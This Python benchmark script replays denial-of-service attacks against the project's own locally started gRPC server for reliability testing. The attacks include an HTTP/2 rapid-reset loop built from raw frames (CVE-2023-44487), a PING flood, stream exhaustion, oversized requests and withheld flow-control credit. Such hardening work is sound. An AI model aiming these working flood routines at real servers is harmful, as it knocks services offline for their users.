"""gRPC attack replays, round 7 (reliab7), against a real server with its defaults (one cpu worker) while a second
client probes /v2/health/live every 50 ms (body_shape_attacks.attack: the answers, wall time, the probes' worst
latency, the server's peak RSS growth).

- `streams`: N concurrent calls on one channel past grpc_max_streams: a bare grpcio stub's, then the SDK's.
- `stock`: a bare grpcio stub's polite loads on one channel (reliab9): 1000 small Evals one at a time, then 2000
  with 64, 80 and 96 threads at once (GRADSERVE_GRPC_MAX_STREAMS=100 to compare with the old default).
- `missing`: MissingTensors naming 10^6 hashes (over the 2^18 a question may name) and 2^18 (allowed).
- `put`: PutTensors of 10^6 empty tensors (past max_tensors).
- `unread`: one connection's 20 Eval calls of a 16 MiB answer each, never read (no flow-control credit).
- `channels`: one client's 10 channels, each with 100 Evals of ~20 ms at once; a small job on an 11th after.
- `pings`: one connection sends 200 K PINGs (no call) as fast as it can.
- `reset`: rapid reset (CVE-2023-44487): one connection opens 200 K MissingTensors calls, each reset at once
  (RST_STREAM CANCEL), frames written by hand (tests/e2e/h2_raw.py); a second channel's calls are timed too.

    PYTHONPATH=$PWD:$PWD/clients/python:$PWD/tests python benchmarks/grpc_stream_attacks.py [streams] [missing] [put]
"""
from __future__ import annotations

import collections
import os
import sys
import tempfile
import threading
from pathlib import Path

import grpc

from body_shape_attacks import attack, kb
from e2e.grpc_wire import open_channel
from e2e.h2_raw import RST_STREAM, RawH2, call_frames, frame
from e2e.server import Server
from service.proto import gradserve_pb2 as pb, gradserve_pb2_grpc as pb_grpc

HASH = "ab" * 32
MISSING = "/gradserve.v1.Gradserve/MissingTensors"


def concurrently(n: int, one) -> tuple[str, str]:
    """`one()` in n threads at once: (the count of each outcome, the first error's details)."""
    codes: collections.Counter = collections.Counter()
    first: list[str] = []
    lock = threading.Lock()

    def run():
        try:
            one()
            c = "OK"
        except grpc.RpcError as e:
            c = e.code().name
            first.append(e.details())
        except Exception as e:  # noqa: BLE001 - the SDK's errors: counted by type
            c = type(e).__name__
            first.append(str(e))
        with lock:
            codes[c] += 1

    ths = [threading.Thread(target=run) for _ in range(n)]
    [t.start() for t in ths]
    [t.join() for t in ths]
    return str(dict(codes)), (first or [""])[0]


def one_call(stub, method: str, m):
    def go():
        try:
            getattr(stub, method)(m, timeout=120)
            return "OK", ""
        except grpc.RpcError as e:
            return e.code().name, e.details()
    return go


def stock_loads(stub) -> None:
    """A plain stub's small Evals on one channel: one at a time, then 64, 80 and 96 at once (answers counted)."""
    import time
    import numpy as np
    from e2e.grpc_wire import request
    from engine import GraphBuilder
    from engine.serialize import graph_to_json
    gb = GraphBuilder("s")
    m = request("eval", {"graph": graph_to_json(gb.build(gb.sin(gb.input((4,), "float64", name="x")))),
                         "inputs": [np.ones(4)]})
    t0, codes = time.perf_counter(), collections.Counter()
    for _ in range(1000):
        codes[one_call(stub, "Eval", m)()[0]] += 1
    print(f"1000 one at a time: {dict(codes)} {time.perf_counter() - t0:.1f} s", flush=True)
    for width in (64, 80, 96):
        left, lock, codes = [2000], threading.Lock(), collections.Counter()

        def run():
            while True:
                with lock:
                    if not left[0]:
                        return
                    left[0] -= 1
                code = one_call(stub, "Eval", m)()[0]
                with lock:
                    codes[code] += 1
        t0 = time.perf_counter()
        ths = [threading.Thread(target=run) for _ in range(width)]
        [t.start() for t in ths]
        [t.join() for t in ths]
        print(f"2000 by {width} threads: {dict(codes)} {time.perf_counter() - t0:.1f} s", flush=True)


def rapid_reset(s: Server, stub, n: int = 200_000, batch: int = 500) -> tuple[str, str]:
    """n calls opened and reset at once on one raw connection while a second channel asks MissingTensors: (how
    far the attacker got, the other channel's worst call)."""
    h = RawH2(s.grpc_target)
    msg = pb.MissingTensorsRequest(sha256=[HASH]).SerializeToString()
    stop, worst = threading.Event(), [0.0]

    def drain():  # a live peer: reads what the server sends and acknowledges its SETTINGS and PINGs
        try:
            while not stop.is_set():
                h.serve_control(*(lambda k, f, _, p: (k, f, p))(*h.read_frame()))
        except (ConnectionError, OSError):
            return

    def other():
        import time
        while not stop.is_set():
            t0 = time.perf_counter()
            try:
                stub.MissingTensors(pb.MissingTensorsRequest(sha256=[HASH]), timeout=60)
            except grpc.RpcError:
                pass
            worst[0] = max(worst[0], time.perf_counter() - t0)
            time.sleep(0.05)

    ths = [threading.Thread(target=drain, daemon=True), threading.Thread(target=other)]
    [t.start() for t in ths]
    sent = 0
    try:
        while sent < n:
            out = []
            for _ in range(batch):
                sid = h.next_stream
                h.next_stream += 2
                out.append(call_frames(sid, MISSING, msg) + frame(RST_STREAM, 0, sid, (8).to_bytes(4, "big")))
            h.sock.sendall(b"".join(out))
            sent += batch
        result = f"{sent} opened and reset"
    except OSError as e:
        result = f"connection closed after {sent} ({type(e).__name__})"
    stop.set()
    ths[1].join()
    h.close()
    return result, f"the other channel's worst call {worst[0] * 1e3:.0f} ms"


def unread(s: Server, stub, calls: int = 20, n: int = 1 << 21) -> tuple[str, str]:
    """`calls` Evals of an answer of n float64 on one raw connection that grants no flow-control credit: how many
    answers started (their jobs ran; each waits for credit), and another channel's call meanwhile."""
    import time
    import numpy as np
    from e2e.grpc_wire import request
    from e2e.h2_raw import DATA, END_STREAM, HEADERS
    from engine import GraphBuilder
    from engine.serialize import graph_to_json
    gb = GraphBuilder("big")
    x = gb.input((1,), "float64", name="x")
    b = gb.emit1("broadcast_to", gb.sin(x), shape=[n])
    msg = request("eval", {"graph": graph_to_json(gb.build(gb.add(b, b))), "inputs": [np.ones(1)]}).SerializeToString()
    h = RawH2(s.grpc_target, window=0)
    for _ in range(calls):
        h.call("/gradserve.v1.Gradserve/Eval", msg)
    started, ended, t_end = set(), set(), time.monotonic() + 120
    h.sock.settimeout(5)
    try:
        while len(started | ended) < calls and time.monotonic() < t_end:
            kind, flags, sid, payload = h.read_frame()
            h.serve_control(kind, flags, payload)
            if kind == HEADERS and flags & END_STREAM:  # a status without an answer (refused)
                ended.add(sid)
            elif kind == DATA or kind == HEADERS:
                started.add(sid)
    except OSError:
        pass
    started -= ended
    t0 = time.perf_counter()
    stub.MissingTensors(pb.MissingTensorsRequest(sha256=[HASH]), timeout=60)
    other = time.perf_counter() - t0
    now = kb(s.proc.pid, "VmRSS") >> 10  # (what stays held, not the peak in passing)
    out = f"{len(started)} of {calls} answers started, held unread; {len(ended)} refused; server RSS {now} MiB", f"another channel's call {other * 1e3:.0f} ms"
    h.close()
    return out


def ping_flood(s: Server, stub, n: int = 200_000, batch: int = 1000) -> tuple[str, str]:
    """n PING frames on one raw connection: how the connection ended (GOAWAY and its debug text, or still open),
    and another channel's call after."""
    import time
    from e2e.h2_raw import GOAWAY, PING
    h = RawH2(s.grpc_target)
    sent, goaway = 0, None
    kinds: collections.Counter = collections.Counter()
    stop = threading.Event()

    def read():
        nonlocal goaway
        try:
            while not stop.is_set():
                k, f, _, p = h.read_frame()
                kinds[k] += 1
                if k == GOAWAY:
                    goaway = p[8:].decode(errors="replace") or "GOAWAY"
        except (ConnectionError, OSError):
            return

    th = threading.Thread(target=read, daemon=True)
    th.start()
    try:
        while sent < n:
            h.sock.sendall(b"".join(frame(PING, 0, 0, i.to_bytes(8, "big")) for i in range(sent, sent + batch)))
            sent += batch
    except OSError:
        pass
    th.join(timeout=5)
    stop.set()
    h.close()
    t0 = time.perf_counter()
    stub.MissingTensors(pb.MissingTensorsRequest(sha256=[HASH]), timeout=60)
    return (f"{sent} PINGs sent, {kinds[PING]} acked, ended by {goaway!r}",
            f"another channel's call {(time.perf_counter() - t0) * 1e3:.0f} ms")


def many_channels(s: Server, channels: int = 10, calls: int = 100) -> tuple[str, str]:
    """`calls` concurrent slow Evals on each of `channels` channels (one client): their outcomes, and a small
    job's time on another channel after."""
    import time
    from e2e.grpc_wire import request
    from e2e.helpers import slow_input, slow_net
    m = request("eval", {"graph": slow_net(64, 20), "inputs": [slow_input(64)]})
    chans = [open_channel(s.grpc_target) for _ in range(channels)]
    stubs = [pb_grpc.GradserveStub(c) for c in chans]
    codes, first = concurrently(channels * calls, lambda it=iter(range(10 ** 9)): stubs[next(it) % channels].Eval(
        m, timeout=120))
    [c.close() for c in chans]
    other = open_channel(s.grpc_target)
    t0 = time.perf_counter()
    pb_grpc.GradserveStub(other).Eval(m, timeout=120)
    other.close()
    return f"{codes} {first[:90]}", f"a job on another channel after: {(time.perf_counter() - t0) * 1e3:.0f} ms"


def main(which: list[str]) -> None:
    own = {k: v for k, v in os.environ.items() if k.startswith("GRADSERVE_")}  # (e.g. a limit set to compare)
    s = Server(Path(tempfile.mkdtemp()) / "server.log", devices="cpu", base_env={},
               env={"GRADSERVE_CPU_WORKERS": "1", **own})
    try:
        ch = open_channel(s.grpc_target)
        stub = pb_grpc.GradserveStub(ch)
        if "streams" in which:
            ask = pb.MissingTensorsRequest(sha256=[HASH])
            for n in (1000, 1000):
                attack(s, f"{n} concurrent calls, one channel, grpcio stub",
                       lambda: concurrently(n, lambda: stub.MissingTensors(ask, timeout=60)))
            from gradserve._transport.grpc import GRPCTransport
            sdk = GRPCTransport(f"grpc://{s.grpc_target}", timeout=60)
            for n in (1000, 1000):
                attack(s, f"{n} concurrent calls, one channel, the SDK's transport",
                       lambda: concurrently(n, lambda: sdk.call("missing_tensors", {"sha256": [HASH]})))
            sdk.close()
        if "stock" in which:
            stock_loads(stub)
        if "missing" in which:
            for n in (10 ** 6, 1 << 18):
                attack(s, f"MissingTensors of {n} hashes", one_call(stub, "MissingTensors",
                                                                   pb.MissingTensorsRequest(sha256=[HASH] * n)))
        if "unread" in which:
            attack(s, "20 answers of 16 MiB never read, one connection", lambda: unread(s, stub))
        if "channels" in which:
            attack(s, "10 channels x 100 Evals at once, one client", lambda: many_channels(s))
        if "pings" in which:
            attack(s, "200 K PINGs on one connection", lambda: ping_flood(s, stub))
        if "reset" in which:
            attack(s, "rapid reset, 200 K calls on one connection", lambda: rapid_reset(s, stub))
        if "put" in which:
            m = pb.PutTensorsRequest()
            m.tensors.extend([pb.Tensor()] * 10 ** 6)
            attack(s, "PutTensors of 10^6 empty tensors", one_call(stub, "PutTensors", m))
        ch.close()
    finally:
        s.stop()


if __name__ == "__main__":
    main(sys.argv[1:] or ["streams", "missing", "put"])
